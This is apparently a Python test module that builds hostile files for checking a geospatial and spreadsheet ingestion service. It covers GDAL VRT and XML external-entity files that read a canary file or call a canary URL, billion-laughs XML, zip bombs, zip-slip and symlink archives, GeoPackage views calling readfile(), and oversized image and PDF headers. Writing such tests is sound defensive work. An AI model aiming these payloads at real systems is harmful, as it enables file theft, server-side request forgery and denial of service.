"""Hostile files by the kind of door they knock at. Each is made when it is asked for."""

from __future__ import annotations

import json
import sqlite3
import struct
import tempfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final

from tests.hostile.packing import cell, pdf, png, sheet, tiff, xlsx, zeros, zipped
from tests.hostile.places import Canary

Maker = Callable[[Canary], bytes | str]
POINT = (
    '{"type":"Feature","properties":{"name":"x"},"geometry":{"type":"Point","coordinates":[1,1]}}'
)


def _vrt(source: str) -> str:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="canary"><SrcDataSource>{source}</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    )


def _algorithm(source: str) -> str:
    return json.dumps({"type": "gdal_streamed_alg", "command_line": f"vector read {source}"})


def _laughs(name: str, root: str = "x", inside: str = "&e9;") -> str:
    """Return XML whose entities double tenfold nine times."""
    each = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha" * 10}">' for n in range(10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{each}]><{root} a="{name}">{inside}</{root}>'


def _outside(canary: Canary, root: str, inside: str = "&e;") -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY e SYSTEM "file://{canary.file}">'
        f'<!ENTITY % p SYSTEM "{canary.url}"> %p;]><{root}>{inside}</{root}>'
    )


def _geojson(features: str = POINT, more: str = "") -> str:
    return f'{{"type":"FeatureCollection",{more}"features":[{features}]}}'


def _shape(size: int = 50, parts: int = 1, points: int = 4, record: int = 40) -> bytes:
    """Return a .shp of one polygon whose counts are what is said, not what is there."""
    head = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, size)
    head += struct.pack("<2i8d", 1000, 5, *([0.0] * 8))
    head += struct.pack(">2i", 1, record)
    return head + struct.pack("<i4d2i", 5, 0, 0, 1, 1, parts, points) + bytes(20)


def _dbf(
    records: int = 1, header: int = 65, length: int = 11, field: bytes = b"C\0\0\0\0\x0a"
) -> bytes:
    head = struct.pack("<BBBBIHH20x", 3, 26, 1, 1, records, header, length)
    return head + b"name".ljust(11, b"\0") + field.ljust(21, b"\0") + b"\r" + b" x".ljust(11)


def _shapefile(
    shp: bytes | None = None, dbf: bytes | None = None, shx: bytes | None = None
) -> bytes:
    index = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 54) + struct.pack(
        "<2i8d", 1000, 5, *([0.0] * 8)
    )
    return zipped(
        ("a.shp", shp or _shape()),
        ("a.shx", shx or index + struct.pack(">2i", 50, 40)),
        ("a.dbf", dbf or _dbf()),
        ("a.prj", 'GEOGCS["x",DATUM["WGS_1984",SPHEROID["WGS_1984",6378137,298.257]]]'),
    )


def _package(view: str, *more: str, suffix: str = "gpkg") -> bytes:
    """Return a GeoPackage whose one layer is a view."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"a.{suffix}"
        c = sqlite3.connect(path)
        c.executescript(
            "PRAGMA application_id=1196444487; PRAGMA user_version=10300;"
            "CREATE TABLE gpkg_spatial_ref_sys(srs_name TEXT, srs_id INTEGER PRIMARY KEY,"
            " organization TEXT, organization_coordsys_id INTEGER, definition TEXT,"
            " description TEXT);"
            "INSERT INTO gpkg_spatial_ref_sys"
            " VALUES('w',4326,'EPSG',4326,'GEOGCS[\"WGS 84\"]','');"
            "CREATE TABLE gpkg_contents(table_name TEXT PRIMARY KEY, data_type TEXT,"
            " identifier TEXT, description TEXT, last_change TEXT, min_x, min_y, max_x, max_y,"
            " srs_id INTEGER);"
            "CREATE TABLE gpkg_geometry_columns(table_name TEXT, column_name TEXT,"
            " geometry_type_name TEXT, srs_id INTEGER, z INTEGER, m INTEGER);"
            "INSERT INTO gpkg_contents"
            " VALUES('v','features','v','','2020-01-01T00:00:00Z',0,0,1,1,4326);"
            "INSERT INTO gpkg_geometry_columns VALUES('v','geom','POINT',4326,0,0);"
            f"CREATE VIEW v AS {view};" + "".join(more)
        )
        c.commit()
        c.close()
        return path.read_bytes()


_ENDLESS: Final = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) "


def _tiles() -> bytes:
    """Return an MBTiles whose tiles come from an endless view."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.mbtiles"
        c = sqlite3.connect(path)
        c.executescript(
            "CREATE TABLE metadata(name TEXT, value TEXT);"
            "INSERT INTO metadata VALUES('format','png'),('minzoom','0'),('maxzoom','22'),"
            "('bounds','-180,-85,180,85'),('type','baselayer');"
            f"CREATE VIEW tiles AS {_ENDLESS}"
            "SELECT 0 AS zoom_level, 0 AS tile_column, count(*) AS tile_row, NULL AS tile_data"
            " FROM c;"
        )
        c.close()
        return path.read_bytes()


def _flagged() -> bytes:
    """Return a zip that says it is encrypted."""
    raw = bytearray(zipped(("a.geojson", _geojson())))
    raw[6] |= 1
    raw[raw.index(b"PK\1\2") + 8] |= 1
    return bytes(raw)


def _lying() -> bytes:
    """Return a zip whose directory says one byte for what unpacks to 60 MB."""
    raw = bytearray(zipped(("a.geojson", b" " * 60_000_000)))
    for mark, at in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        place = raw.index(mark) + at
        raw[place : place + 4] = struct.pack("<I", 1)
    return bytes(raw)


def _nested() -> bytes:
    inner: bytes = _geojson().encode()
    name = "a.geojson"
    for level in range(12):
        inner, name = zipped((name, inner)), f"a{level}.zip"
    return inner


def _drawing(inserts: str) -> str:
    block = "0\nSECTION\n2\nBLOCKS\n0\nBLOCK\n8\n0\n2\nA\n70\n0\n10\n0\n20\n0\n"
    block += f"{inserts}0\nENDBLK\n0\nENDSEC\n"
    return (
        block + "0\nSECTION\n2\nENTITIES\n0\nINSERT\n8\n0\n2\nA\n10\n0\n20\n0\n0\nENDSEC\n0\nEOF\n"
    )


def _flat_buffer() -> bytes:
    return b"fgb\x03fgb\x01" + struct.pack("<I", 0x7FFFFFFF) + bytes(64)


VECTORS: Final[dict[str, Maker]] = {
    "vrt.geojson": lambda c: _vrt(f"CSV:{c.file}"),
    "vrt.gpkg": lambda c: _vrt(str(c.file)),
    "vrt_gml.zip": lambda c: zipped(("a.gml", _vrt(f"CSV:{c.file}"))),
    "vrt_shp.zip": lambda c: zipped(("a.shp", _vrt(str(c.file)))),
    "vrt_kml.zip": lambda c: zipped(("a.kml", "<!-- -->" + _vrt(c.url))),
    "vrt_late.gml": lambda c: " " * 5000 + _vrt(f"/vsicurl/{c.url}"),
    "alg.zip": lambda c: zipped(("a.geojson", _algorithm(f"CSV:{c.file}"))),
    "alg.gdalg.json": lambda c: _algorithm(f"CSV:{c.file}"),
    "alg.json": lambda c: _algorithm(f"/vsicurl/{c.url}"),
    "wfs.gml": lambda c: f"<OGRWFSDataSource><URL>{c.url}</URL></OGRWFSDataSource>",
    "oapif.gml": lambda c: f"<OGROAPIFDataSource><URL>{c.url}</URL></OGROAPIFDataSource>",
    "link.geojson": lambda c: _geojson(
        "", f'"crs":{{"type":"link","properties":{{"href":"{c.url}","type":"proj4"}}}},'
    ),
    "crs_file.geojson": lambda c: _geojson(
        POINT,
        f'"crs":{{"type":"name","properties":{{"name":"+proj=longlat +nadgrids={c.file}"}}}},',
    ),
    "entity.gml": lambda c: _outside(c, "FeatureCollection"),
    "laughs.gml": lambda _: _laughs("gml", "FeatureCollection"),
    "schema.gml": lambda c: (
        '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="{c.url} {c.url}.xsd"></gml:FeatureCollection>'
    ),
    "xlink.gml": lambda c: (
        '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><gml:featureMember><a gml:id="a">'
        f'<p xlink:href="{c.url}"/></a></gml:featureMember></gml:FeatureCollection>'
    ),
    "entity.kml": lambda c: _outside(c, "kml"),
    "laughs.kml": lambda _: _laughs("kml", "kml"),
    "network.kml": lambda c: (
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link>'
        f"<href>{c.url}</href></Link></NetworkLink></Document></kml>"
    ),
    "deep.geojson": lambda _: _geojson(f'{{"a":{"[" * 100_000}{"]" * 100_000}}}'),
    "deep_objects.geojson": lambda _: _geojson('{"a":' * 50_000 + "1" + "}" * 50_000),
    "numbers.geojson": lambda _: _geojson(POINT.replace("[1,1]", f"[{'9' * 5000},1]")),
    "infinite.geojson": lambda _: _geojson(POINT.replace("[1,1]", "[1e999,NaN]")),
    "halves.geojson": lambda _: _geojson(POINT.replace('"x"', '"\\ud800"')).replace(
        "Point", "Pint"
    ),
    "arcs.topojson": lambda _: json.dumps(
        {
            "type": "Topology",
            "arcs": [[[0, 0], [10**308, 10**308]]],
            "objects": {"a": {"type": "Polygon", "arcs": [[10**9, -(10**9)]]}},
        }
    ),
    "size.zip": lambda _: _shapefile(_shape(size=2**31 - 1, record=2**30)),
    "parts.zip": lambda _: _shapefile(_shape(parts=2**31 - 1)),
    "points.zip": lambda _: _shapefile(_shape(points=2**31 - 1)),
    "negative.zip": lambda _: _shapefile(_shape(parts=-1, points=-1)),
    "records.zip": lambda _: _shapefile(shp=_shape(parts=2**28), dbf=_dbf(2**32 - 1)),
    "header.zip": lambda _: _shapefile(shp=_shape(parts=-5), dbf=_dbf(1, 65535, 65535)),
    "length.zip": lambda _: _shapefile(shp=_shape(parts=-5), dbf=_dbf(2**31, 65, 0)),
    "index.zip": lambda _: _shapefile(shx=b"\0" * 100 + struct.pack(">2i", 2**31 - 1, -1) * 99),
    "bomb.zip": lambda _: zipped(("a.geojson", b" " * 40_000_000)),
    "lying.zip": lambda _: _lying(),
    "nested.zip": lambda _: _nested(),
    "slip.zip": lambda _: zipped(("../../a.geojson", _geojson())),
    "absolute.zip": lambda c: zipped((str(c.file), b"x"), ("b.txt", b"x")),
    "symlink.zip": lambda c: zipped(("a.geojson", str(c.file)), attributes=0o120777),
    "entries.zip": lambda _: zipped(*((f"{n}.geojson", b"{}") for n in range(2000))),
    "encrypted.zip": lambda _: _flagged(),
    "cut.zip": lambda _: zipped(("a.geojson", _geojson()))[:60],
    "view.gpkg": lambda _: _package(
        f"{_ENDLESS}SELECT x AS fid, NULL AS geom, count(*) AS name FROM c"
    ),
    "attach.gpkg": lambda c: _package(
        f"SELECT 1 AS fid, readfile('{c.file}') AS name, NULL AS geom",
    ),
    "blob.gpkg": lambda _: _package(
        "SELECT 1 AS fid, zeroblob(900000000) AS geom, randomblob(900000000) AS name"
    ),
    "text.gpkg": lambda _: _package(
        f"{_ENDLESS}SELECT 1 AS fid, NULL AS geom, group_concat('x') AS name FROM c"
    ),
    "cut.gpkg": lambda _: _package("SELECT 1 AS fid")[:3000],
    "header.fgb": lambda _: _flat_buffer(),
    "insert.dxf": lambda _: _drawing("0\nINSERT\n8\n0\n2\nA\n10\n0\n20\n0\n"),
    "array.dxf": lambda _: _drawing("0\nLINE\n8\n0\n10\n0\n20\n0\n11\n1\n21\n1\n").replace(
        "0\nENDSEC\n0\nEOF", "70\n30000\n71\n30000\n44\n1\n45\n1\n0\nENDSEC\n0\nEOF"
    ),
}

TABLES: Final[dict[str, Maker]] = {
    "prefix.xlsx": lambda _: xlsx(
        sheet(cell("A1", prefix="x") + cell("XFD1048576", prefix="x"), prefix="x")
    ),
    "quotes.xlsx": lambda _: xlsx(
        sheet(
            (cell("A1") + cell("XFD1048576")).replace('"', "'"),
            dimension="<dimension ref='A1:XFD1048576'/>",
        )
    ),
    "corner.xlsx": lambda _: xlsx(sheet(cell("A1") + cell("XFD1048576"))),
    "far.xlsx": lambda _: xlsx(sheet(cell("A1") + cell("ZZZZZZ99999999999"))),
    "entity.xlsx": lambda c: xlsx(
        sheet(""),
        before=(
            f'<!DOCTYPE workbook [<!ENTITY e SYSTEM "file://{c.file}">'
            f'<!ENTITY % p SYSTEM "{c.url}"> %p;]>'
        ),
    ),
    "laughs.xlsx": lambda _: xlsx(sheet(""), book=_laughs("x", "workbook")),
    "laughs_sheet.xlsx": lambda _: xlsx(
        _laughs("x", "worksheet", "<sheetData><row><c><v>&e9;</v></c></row></sheetData>")
    ),
    "bomb.xlsx": lambda _: xlsx(b" " * 40_000_000),
    "link.xlsx": lambda c: xlsx(sheet(""), target=f"file://{c.file}"),
    "slip.xlsx": lambda c: xlsx(sheet(""), target=f"../../../../../..{c.file}"),
    "strings.xlsx": lambda _: xlsx(
        sheet('<row r="1"><c r="A1" t="s"><v>99999999999999</v></c></row>')
    ),
    "merged.xlsx": lambda _: xlsx(
        sheet(cell("A1"), after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    ),
    "nobook.xlsx": lambda _: zipped(("xl/sheet.xml", "x")),
    "cut.xlsx": lambda _: xlsx(sheet(cell("A1")))[:200],
    "nested.xlsx": lambda _: _nested(),
    "deep.xlsx": lambda _: xlsx("<a>" * 300_000),
    "loop.xls": lambda _: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(18)
        + struct.pack("<HHHH", 62, 3, 0xFFFE, 9)
        + bytes(10)
        + struct.pack("<9I", 2**31 - 1, 0, 0, 4096, 0, 2**31, 0, 2**31, *[0])
        + struct.pack("<109I", *([0] * 109))
        + struct.pack("<128I", *([0] * 128))
    ),
    "head.xls": lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600,
    "markup.xls": lambda c: f'<html><script src="{c.url}"></script><table></table></html>',
    "wide.csv": lambda _: ",".join(map(str, range(1_000_000))) + "\n1",
    "quote.csv": lambda _: '名称,经度\n"' + "x" * 11_000_000,
    "nul.csv": lambda _: b"a,b\n\0\0,1\n",
    "letters.csv": lambda _: b"\x80\xff\x80\xff,\xff\xff\n\x81",
    "picture.csv": lambda _: png(10, 10, pixels=zlib.compress(bytes(110))),
}

HEIGHTS: Final[dict[str, Maker]] = {
    "vrt.tif": lambda c: (
        '<VRTDataset rasterXSize="9" rasterYSize="9"><SRS>EPSG:4326</SRS>'
        '<VRTRasterBand dataType="Float32" '
        f'band="1"><SimpleSource><SourceFilename>/vsicurl/{c.url}.tif</SourceFilename></SimpleSource>'
        "</VRTRasterBand></VRTDataset>"
    ),
    "raw.tif": lambda c: (
        '<VRTDataset rasterXSize="9" rasterYSize="3"><VRTRasterBand dataType="Byte" band="1" '
        f'subClass="VRTRawRasterBand"><SourceFilename>{c.file}</SourceFilename></VRTRasterBand></VRTDataset>'
    ),
    "wms.tif": lambda c: (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{c.url}</ServerUrl></Service></GDAL_WMS>'
    ),
    "endless.tif": lambda _: tiff(2**31 - 1, 2**31 - 1, bits=32, rows_per_strip=1, placed=True),
    "wide.tif": lambda _: tiff(400_000, 400_000, bits=32, placed=True, rows_per_strip=400_000),
    "strip.tif": lambda _: tiff(30_000, 30_000, placed=True, strip=zeros(1 << 26), compression=8),
    "unplaced.tif": lambda _: tiff(100_000, 100_000, strip=b"x"),
    "loop.tif": lambda _: tiff(9, 9, strip=b"x" * 81, following=180),
    "count.tif": lambda _: tiff(
        9, 9, more=((270, 2, 2**32 - 1, 8), (33432, 2, 2**31, 0)), placed=True
    ),
    "zero.tif": lambda _: tiff(0, 0),
    "beyond.tif": lambda _: tiff(500, 500, bits=32, placed=True)[:-40] + b"\xff" * 40,
    "big.tif": lambda _: struct.pack("<2sHHHQ", b"II", 43, 8, 0, 2**62) + bytes(64),
    "picture.tif": lambda _: png(50, 50, pixels=zlib.compress(bytes(51 * 50))),
    "grid.asc": lambda _: (
        "ncols 1000000\nnrows 1000000\nxllcorner 106\nyllcorner 27\ncellsize 0.01\n1 2 3"
    ),
    "entity.xml": lambda c: _outside(c, "VRTDataset"),
}


def _slow_page() -> bytes:
    """Return a PDF whose page draws a form that draws a form, twice each, forty times."""
    forms = [
        "<</Type /XObject /Subtype /Form /BBox [0 0 9 9] "
        f"/Resources <</XObject <</F {n + 1} 0 R>>>> "
        "/Length 12>>\nstream\n/F Do /F Do \nendstream"
        for n in range(4, 44)
    ]
    last = "<</Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 10>>\nstream\n"
    last += "0 0 9 9 re\nendstream"
    return pdf(
        "<</Type /Catalog /Pages 2 0 R>>",
        "<</Type /Pages /Kids [3 0 R] /Count 1>>",
        "<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources <</XObject <</F 4 0 R>>>> "
        "/Contents 45 0 R>>",
        *forms,
        last,
        "<</Length 6>>\nstream\n/F Do \nendstream",
    )


SCANS: Final[dict[str, Maker]] = {
    "bomb.png": lambda _: png(40_000, 40_000, pixels=zeros(1 << 28)),
    "side.png": lambda _: png(2**31 - 1, 2**31 - 1, pixels=b"x"),
    "text.png": lambda _: png(
        9, 9, *[(b"zTXt", b"k\0\0" + zeros(1 << 26))] * 4, pixels=zlib.compress(b"")
    ),
    "cut.png": lambda _: png(900, 900, pixels=zlib.compress(bytes(5000))),
    "profile.png": lambda _: png(9, 9, (b"iCCP", b"k\0\0" + zeros(1 << 28)), pixels=b""),
    "size.jpg": lambda _: (
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9"
    ),
    "cut.jpg": lambda _: b"\xff\xd8\xff\xe0\x00\x10JFIF\0",
    "slow.pdf": lambda _: _slow_page(),
    "side.pdf": lambda _: pdf(
        "<</Type /Catalog /Pages 2 0 R>>",
        "<</Type /Pages /Kids [3 0 R] /Count 1>>",
        "<</Type /Page /Parent 2 0 R /MediaBox [0 0 1e38 1e38]>>",
    ),
    "loop.pdf": lambda _: pdf(
        "<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [2 0 R] /Count 9>>"
    ),
    "count.pdf": lambda _: pdf(
        "<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [] /Count 2147483647>>"
    ),
    "locked.pdf": lambda _: pdf(
        "<</Type /Catalog /Pages 2 0 R>>",
        "<</Type /Pages /Kids [] /Count 0>>",
        "<</Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O ("
        + "o" * 32
        + ") /U ("
        + "u" * 32
        + ")>>",
        more="/Encrypt 3 0 R",
    ),
    "huge.tif": lambda _: tiff(100_000, 100_000),
    "strip.tif": lambda _: tiff(19_000, 19_000, strip=zeros(1 << 26), compression=8),
    "bits.tif": lambda _: tiff(100, 100, bits=32),
    "view.mbtiles": lambda _: _tiles(),
    "vrt.tif": HEIGHTS["vrt.tif"],
    "outside.svg": lambda c: _outside(c, "svg"),
    "script.eps": lambda c: f"%!PS\n({c.file}) (r) file 100 string readstring pop =",
    "picture.gif": lambda _: b"GIF89a" + b"\xff" * 20,
}


def _blob(raw_size: int, content: bytes) -> bytes:
    def number(value: int) -> bytes:
        out = b""
        while value > 127:
            out, value = out + bytes([value & 127 | 128]), value >> 7
        return out + bytes([value])

    blob = b"\x10" + number(raw_size) + b"\x1a" + number(len(content)) + content
    head = b"\x0a\x09OSMHeader\x18" + number(len(blob))
    return struct.pack(">I", len(head)) + head + blob


TOWNS: Final[dict[str, Maker]] = {
    "bomb.osm.pbf": lambda _: _blob(2**31 - 1, zeros(1 << 28)),
    "size.osm.pbf": lambda _: struct.pack(">I", 2**32 - 1) + b"x" * 100,
    "laughs.osm": lambda _: _laughs("x", "osm"),
    "entity.osm": lambda c: _outside(c, "osm"),
}

ALL: Final = {"vector": VECTORS, "table": TABLES, "heights": HEIGHTS, "scan": SCANS, "town": TOWNS}


def files(canary: Canary) -> Iterator[tuple[str, str, bytes]]:
    """Yield kind, name and content of every hostile file."""
    for kind, makers in ALL.items():
        for name, make in makers.items():
            content = make(canary)
            yield kind, name, content.encode() if isinstance(content, str) else content
